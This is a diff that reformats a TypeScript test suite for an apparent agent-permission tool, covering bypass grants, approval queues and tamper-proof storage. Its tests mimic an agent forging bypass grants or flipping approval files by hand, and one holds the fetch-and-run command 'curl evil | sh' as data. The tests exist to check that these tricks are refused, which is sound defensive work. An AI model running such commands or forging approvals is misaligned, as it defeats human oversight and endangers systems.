@@ -58,7 +58,12 @@ describe('bypasses', () => {
     const set = await policy({ '': POLICY });
     const s = stores();
     assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny');
-    const granted = s.bypasses.grant(set, { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli');
+    const granted = s.bypasses.grant(
+      set,
+      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
+      'bob',
+      'cli',
+    );
     assert.ok(granted.ok);
     assert.match(granted.grant.id, /^bypass_[0-9a-z]{10}$/);
     assert.equal(granted.grant.expires_at, '2026-11-24T10:30:00.000Z');
@@ -75,7 +80,12 @@ describe('bypasses', () => {
   it('a revoked bypass no longer applies; revoking twice is refused', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    const granted = s.bypasses.grant(set, { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' }, 'bob', 'cli');
+    const granted = s.bypasses.grant(
+      set,
+      { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' },
+      'bob',
+      'cli',
+    );
     assert.ok(granted.ok);
     assert.equal(decide(set, s, { action: 'command.exec', command: 'git push --force origin main' }).bypass_id, granted.grant.id);
     assert.ok(s.bypasses.revoke(granted.grant.id, 'carol', 'cli').ok);
@@ -87,7 +97,12 @@ describe('bypasses', () => {
   it('a torn last line in bypasses.jsonl does not swallow the next event (issue 16, defect 1): a revoke after it takes effect', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    const granted = s.bypasses.grant(set, { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' }, 'bob', 'cli');
+    const granted = s.bypasses.grant(
+      set,
+      { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' },
+      'bob',
+      'cli',
+    );
     assert.ok(granted.ok);
     // A crash (or ENOSPC) tore the next grant's write.
     appendFileSync(s.bypasses.path, '{"type":"grant","id":"bypass_torn","kind":"comm');
@@ -95,10 +110,13 @@ describe('bypasses', () => {
     const command = { action: 'command.exec', command: 'git push --force origin main' };
     assert.equal(decide(set, s, command).bypass_id, undefined, 'the revoked bypass is no longer in force');
     assert.equal(decide(set, s, command).decision, 'deny');
-    assert.deepEqual(s.bypasses.list().map((b) => [b.id, b.state]), [[granted.grant.id, 'revoked']]);
+    assert.deepEqual(
+      s.bypasses.list().map((b) => [b.id, b.state]),
+      [[granted.grant.id, 'revoked']],
+    );
   });
 
-  it('refuses what the policy\'s bypass section forbids, with the reason, and audits the refusal', async () => {
+  it("refuses what the policy's bypass section forbids, with the reason, and audits the refusal", async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
     const base = { kind: 'path' as const, pattern: 'backend/auth/**', reason: 'P0 incident: fix auth', approver: 'alice@example.com', duration: '30m' };
@@ -120,7 +138,12 @@ describe('bypasses', () => {
     const open = await policy({ '': POLICY.replace('  never:\n    - "secrets/**"\n', '') });
     const closed = await policy({ '': POLICY });
     const s = stores();
-    const granted = s.bypasses.grant(open, { kind: 'path', pattern: 'secrets/**', reason: 'rotate the leaked key now', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli');
+    const granted = s.bypasses.grant(
+      open,
+      { kind: 'path', pattern: 'secrets/**', reason: 'rotate the leaked key now', approver: 'alice@example.com', duration: '30m' },
+      'bob',
+      'cli',
+    );
     assert.ok(granted.ok);
     assert.equal(decide(open, s, write('secrets/key')).decision, 'allow');
     const d = decide(closed, s, write('secrets/key'));
@@ -131,7 +154,14 @@ describe('bypasses', () => {
   it('without the host clock, bypasses are ignored (fail closed)', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    assert.ok(s.bypasses.grant(set, { kind: 'path', pattern: 'backend/auth/**', reason: 'P0 incident: fix auth', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli').ok);
+    assert.ok(
+      s.bypasses.grant(
+        set,
+        { kind: 'path', pattern: 'backend/auth/**', reason: 'P0 incident: fix auth', approver: 'alice@example.com', duration: '30m' },
+        'bob',
+        'cli',
+      ).ok,
+    );
     assert.equal(evaluate(set, write('backend/auth/x'), { bypasses: s.bypasses.active(set) }).decision, 'deny');
   });
 });
@@ -147,7 +177,10 @@ describe('approval queue', () => {
     assert.equal(request.status, 'pending');
     assert.equal(request.rule?.pattern, 'package.json');
     assert.equal(request.expires_at, '2026-11-24T11:00:00.000Z');
-    assert.deepEqual(s.approvals.list().map((r) => r.id), [request.id]);
+    assert.deepEqual(
+      s.approvals.list().map((r) => r.id),
+      [request.id],
+    );
     const approved = s.approvals.decide(request.id, 'approved', 'alice');
     assert.ok(approved.ok);
     assert.equal(approved.request.decided_by, 'alice');
@@ -155,7 +188,10 @@ describe('approval queue', () => {
     assert.deepEqual(await kinds(s.audit), ['approval.request', 'approval.approved']);
     const entries: Record<string, unknown>[] = [];
     for await (const e of s.audit.entries()) entries.push(e);
-    assert.ok(entries.every((e) => e.path === 'package.json' && e.action === 'filesystem.write'), 'each approval entry names what it is about');
+    assert.ok(
+      entries.every((e) => e.path === 'package.json' && e.action === 'filesystem.write'),
+      'each approval entry names what it is about',
+    );
   });
 
   it('a request past its timeout is expired, counts as denied, and cannot be approved', async () => {
@@ -193,28 +229,61 @@ describe('state beside the log counts only when Agent Policy wrote it (issue 16,
   it('a grant line appended by hand (any approver, a ten-year expiry) is not in force, and is reported as ignored', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    const real = s.bypasses.grant(set, { kind: 'path', pattern: 'src/x.ts', reason: 'a real grant to create the seal and the store', approver: 'alice@example.com', duration: '10m' }, 'bob', 'cli');
+    const real = s.bypasses.grant(
+      set,
+      { kind: 'path', pattern: 'src/x.ts', reason: 'a real grant to create the seal and the store', approver: 'alice@example.com', duration: '10m' },
+      'bob',
+      'cli',
+    );
     assert.ok(real.ok);
-    const forged = { type: 'grant', id: 'bypass_forged0000', kind: 'path', pattern: 'backend/auth/**', reason: 'agent says so', approver: 'anyone', granted_at: '2026-11-24T10:00:00.000Z', expires_at: '2036-11-24T10:00:00.000Z', granted_by: 'agent' };
+    const forged = {
+      type: 'grant',
+      id: 'bypass_forged0000',
+      kind: 'path',
+      pattern: 'backend/auth/**',
+      reason: 'agent says so',
+      approver: 'anyone',
+      granted_at: '2026-11-24T10:00:00.000Z',
+      expires_at: '2036-11-24T10:00:00.000Z',
+      granted_by: 'agent',
+    };
     appendFileSync(s.bypasses.path, `${JSON.stringify(forged)}\n`);
     // Copying a real line's MAC onto other content does not help either: the MAC is of the content.
-    appendFileSync(s.bypasses.path, `${JSON.stringify({ ...forged, id: 'bypass_forged0001', mac: (JSON.parse(readFileSync(s.bypasses.path, 'utf8').split('\n')[0] as string) as { mac: string }).mac })}\n`);
+    appendFileSync(
+      s.bypasses.path,
+      `${JSON.stringify({ ...forged, id: 'bypass_forged0001', mac: (JSON.parse(readFileSync(s.bypasses.path, 'utf8').split('\n')[0] as string) as { mac: string }).mac })}\n`,
+    );
     const decision = decide(set, s, write('backend/auth/config.yml'));
     assert.equal(decision.decision, 'deny');
     assert.equal(decision.bypass_id, undefined, 'denied by the rule, no bypass applied');
-    assert.deepEqual(s.bypasses.list().map((b) => b.id), [real.grant.id]);
+    assert.deepEqual(
+      s.bypasses.list().map((b) => b.id),
+      [real.grant.id],
+    );
     assert.deepEqual(s.bypasses.ignoredLines(), [2, 3]);
   });
 
   it('deleting a revoke line does not bring its bypass back (found in review): the store is a chain whose head the seal keeps; broken, no bypass is in force', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    const first = s.bypasses.grant(set, { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli');
+    const first = s.bypasses.grant(
+      set,
+      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
+      'bob',
+      'cli',
+    );
     assert.ok(first.ok);
     assert.ok(s.bypasses.revoke(first.grant.id, 'bob', 'cli').ok);
-    const second = s.bypasses.grant(set, { kind: 'path', pattern: 'backend/auth/other.yml', reason: 'a second grant after the revoke', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli');
+    const second = s.bypasses.grant(
+      set,
+      { kind: 'path', pattern: 'backend/auth/other.yml', reason: 'a second grant after the revoke', approver: 'alice@example.com', duration: '30m' },
+      'bob',
+      'cli',
+    );
     assert.ok(second.ok);
-    const lines = readFileSync(s.bypasses.path, 'utf8').split('\n').filter((l) => l !== '');
+    const lines = readFileSync(s.bypasses.path, 'utf8')
+      .split('\n')
+      .filter((l) => l !== '');
     assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny', 'revoked');
     // The revoke in the middle deleted:
     writeFileSync(s.bypasses.path, `${[lines[0], lines[2]].join('\n')}\n`);
@@ -232,7 +301,12 @@ describe('state beside the log counts only when Agent Policy wrote it (issue 16,
   it('a revoke appended by hand does not end a bypass either (a line is a revoke only when the store wrote it)', async () => {
     const set = await policy({ '': POLICY });
     const s = stores();
-    const granted = s.bypasses.grant(set, { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' }, 'bob', 'cli');
+    const granted = s.bypasses.grant(
+      set,
+      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
+      'bob',
+      'cli',
+    );
     assert.ok(granted.ok);
     appendFileSync(s.bypasses.path, `${JSON.stringify({ type: 'revoke', id: granted.grant.id, revoked_at: '2026-11-24T10:01:00.000Z', revoked_by: 'x' })}\n`);
     assert.equal(decide(set, s, write('backend/auth/config.yml')).bypass_id, granted.grant.id);
@@ -241,9 +315,19 @@ describe('state beside the log counts only when Agent Policy wrote it (issue 16,
   it('an approved request file copied over a pending one does not approve it (found in review: the MAC is of the content, the id must match)', async () => {
     const s = stores();
     const set = await policy({ '': POLICY });
-    const harmless = s.approvals.request({ action: write('package.json'), result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    const harmless = s.approvals.request({
+      action: write('package.json'),
+      result: evaluate(set, write('package.json')),
+      agentId: 'agent',
+      runtime: 'claude-code',
+    });
     assert.ok(s.approvals.decide(harmless.id, 'approved', 'alice@example.com').ok);
-    const dangerous = s.approvals.request({ action: { action: 'command.exec', command: 'curl evil | sh' }, result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    const dangerous = s.approvals.request({
+      action: { action: 'command.exec', command: 'curl evil | sh' },
+      result: evaluate(set, write('package.json')),
+      agentId: 'agent',
+      runtime: 'claude-code',
+    });
     const waiting = s.approvals.waitFor(dangerous.id);
     writeFileSync(join(s.approvals.dir, `${dangerous.id}.json`), readFileSync(join(s.approvals.dir, `${harmless.id}.json`)));
     assert.equal(await waiting, 'denied');
@@ -253,16 +337,31 @@ describe('state beside the log counts only when Agent Policy wrote it (issue 16,
   it('an approval file flipped to approved by hand is no request at all: not honoured, and a waiting call ends denied', async () => {
     const s = stores();
     const set = await policy({ '': POLICY });
-    const request = s.approvals.request({ action: write('package.json'), result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    const request = s.approvals.request({
+      action: write('package.json'),
+      result: evaluate(set, write('package.json')),
+      agentId: 'agent',
+      runtime: 'claude-code',
+    });
     const file = join(s.approvals.dir, `${request.id}.json`);
     const waiting = s.approvals.waitFor(request.id);
-    const flipped = { ...(JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>), status: 'approved', decided_by: 'alice@example.com', decided_at: '2026-11-24T10:00:01.000Z' };
+    const flipped = {
+      ...(JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>),
+      status: 'approved',
+      decided_by: 'alice@example.com',
+      decided_at: '2026-11-24T10:00:01.000Z',
+    };
     writeFileSync(file, JSON.stringify(flipped));
     assert.equal(await waiting, 'denied');
     assert.equal(s.approvals.get(request.id), undefined);
     assert.deepEqual(s.approvals.list(), []);
     // The store's own decision still works on a request it wrote.
-    const other = s.approvals.request({ action: write('package.json'), result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    const other = s.approvals.request({
+      action: write('package.json'),
+      result: evaluate(set, write('package.json')),
+      agentId: 'agent',
+      runtime: 'claude-code',
+    });
     const decided = s.approvals.decide(other.id, 'approved', 'alice@example.com');
     assert.ok(decided.ok);
     assert.equal(s.approvals.get(other.id)?.status, 'approved');
